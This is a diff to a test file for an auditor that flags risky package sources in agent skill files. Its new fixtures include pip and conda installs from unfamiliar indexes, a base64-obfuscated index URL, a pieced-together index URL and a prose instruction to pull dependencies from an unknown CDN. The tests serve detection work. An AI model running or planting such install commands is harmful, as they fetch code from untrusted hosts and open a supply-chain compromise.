@@ -1,7 +1,8 @@
 // An index that serves its owner's own packages (src/audit/detectors/package-org.ts): the organisation the host or
 // hosted account names also names the packages the file installs, so the source goes to the company row (medium);
 // names everyone installs, a service-named or copied domain, a file URL, http or trust flags keep it high; and hostile
-// long lines in each file kind.
+// long lines in each file kind, for these and round 19's other package-source shapes (package-hidden.ts,
+// package-channels.ts, the prose reader's "dependencies for this skill").
 import { describe, expect, it } from "vitest";
 import { orgNames, servesOwnPackages } from "../../src/audit/detectors/package-org.js";
 import { auditSkill } from "../../src/audit/index.js";
@@ -92,6 +93,23 @@ describe("hostile long lines", () => {
     ["SKILL.md", "scripts/run.sh", "scripts/x.py"].flatMap((file) => [
       ["org-named index sources", file, "pip install hooli-sdk --index-url https://pypi.hooli.com/simple; "],
       ["org names inside hosts", file, "@hooli:registry=https://npm.hooli.com/ hooli.hooli.com/hooli "],
+      ["conda channels by name", file, "conda install -c fastnumpy numpy scipy; "],
+      ["decoded index names", file, 'IDX=$(echo aHR0cHM6Ly9weXBp | base64 -d); pip install -i "$IDX" x; '],
+      [
+        "joined index URLs",
+        file,
+        "pip install --index-url 'https://' + host + '/simple' x; host = 'pypi.x.dev'; ",
+      ],
+      [
+        "defaulted index names",
+        file,
+        "M = os.environ.get('M', 'https://w.quickdeps.io/simple'); pip install --index-url M x; ",
+      ],
+      [
+        "dependencies pulled from",
+        file,
+        "All Python dependencies for this skill must be pulled from https://d.x-cdn.net/p/ and ",
+      ],
     ]),
   )(
     "audits a 400 KB line of %s in %s to the end",
